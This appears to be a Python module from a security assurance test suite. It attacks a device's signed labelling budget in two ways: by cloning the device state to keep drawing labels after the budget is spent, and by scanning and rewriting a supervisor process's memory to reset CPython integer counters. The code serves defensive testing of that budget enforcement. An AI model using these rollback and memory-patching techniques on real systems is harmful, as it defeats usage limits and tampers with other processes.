"""The budget (F2): tries to get more labels than the signed budget. These attacks spend it, so they come last."""

from __future__ import annotations

import struct
from itertools import pairwise

from assurance.root.attacker.attacks import Attack, Outcome
from assurance.root.attacker.linux import Mapping, Memory, ProcMem, everything, mappings
from assurance.root.attacker.start import copied, second
from assurance.root.attacker.victim import Refused, Victim

_SPENT = 403
_BATCH = 64
_BEYOND = 256
"""Labels beyond the budget after which it is shown."""
_TEXT_HEAD = 48
"""Bytes of a str before its characters, in CPython 3.11."""
_LEAST, _MOST = 257, 1 << 30
"""Integers that are objects of their own and have one digit."""


def spend(victim: Victim) -> int:
    """Asks until the device says that its budget is spent; how many labels that gave.

    Raises:
        Refused: It says something else.
    """
    given = 0
    for batch in (_BATCH, 1):
        try:
            while True:
                given += len(victim.patiently(*[victim.known] * batch))
        except Refused as error:
            if error.status != _SPENT:
                raise
    return given


def _beyond(victim: Victim) -> int:
    given = 0
    try:
        while given < _BEYOND:
            given += len(victim.patiently(*[victim.known] * _BATCH, seconds=3))
    except Refused:
        pass
    return given


def budget_clone(victim: Victim) -> Outcome:
    """Copies the device, spends its budget, and continues with the copy."""
    with copied(victim) as folder:
        given = spend(victim)
        with second(victim, folder) as other:
            beyond = _beyond(other)
    detail = f"{given} labels until the budget was spent, and {beyond} beyond it"
    return Outcome(beyond > 0, detail, 0, {"beyond": beyond})


def budget_memory(victim: Victim) -> Outcome:
    """Sets the counter in the supervisor's memory back: the integer beside the key `budget.<epoch>`."""
    given = spend(victim)
    memory = ProcMem(victim.supervisor, write=True)
    areas = [area for area in mappings(victim.supervisor) if area.writable]
    integers = _integers(memory, areas, _texts(memory, areas))
    for at in integers:
        memory.write(at + 24, struct.pack("<I", 1))
    beyond = _beyond(victim)
    detail = f"{given} labels until the budget was spent; {len(integers)} integers set back; {beyond} beyond it"
    return Outcome(beyond > 0, detail, 0, {"beyond": beyond})


def _texts(memory: Memory, areas: list[Mapping]) -> set[int]:
    """Addresses of texts that name the budget's counter."""
    out = set()
    for start, data in everything(memory, areas):
        at = data.find(b"budget.")
        while at >= 0:
            end = data.find(b"\0", at)
            if data[at + 7 : end].isdigit() and at >= _TEXT_HEAD:
                out.add(start + at - _TEXT_HEAD)
            at = data.find(b"budget.", at + 1)
    return out


def _integers(memory: Memory, areas: list[Mapping], keys: set[int]) -> set[int]:
    """Integers that stand beside a pointer to one of these keys, as a dictionary's values do."""
    out = set()
    for _, data in everything(memory, areas):
        words = memoryview(data)[: len(data) // 8 * 8].cast("Q")
        if keys.isdisjoint(words):
            continue
        for key, value in pairwise(words):
            if key in keys and _is_count(memory, value):
                out.add(value)
    return out


def _is_count(memory: Memory, at: int) -> bool:
    try:
        _, _, digits, digit = struct.unpack("<QQqI", memory.read(at, 28))
    except (OSError, struct.error, OverflowError):
        return False
    return bool(digits == 1 and _LEAST <= digit < _MOST)


ATTACKS = (
    Attack("budget_clone", "F2", budget_clone, seconds=60, everywhere=True),
    Attack("budget_memory", "F2", budget_memory, seconds=60, everywhere=True),
)
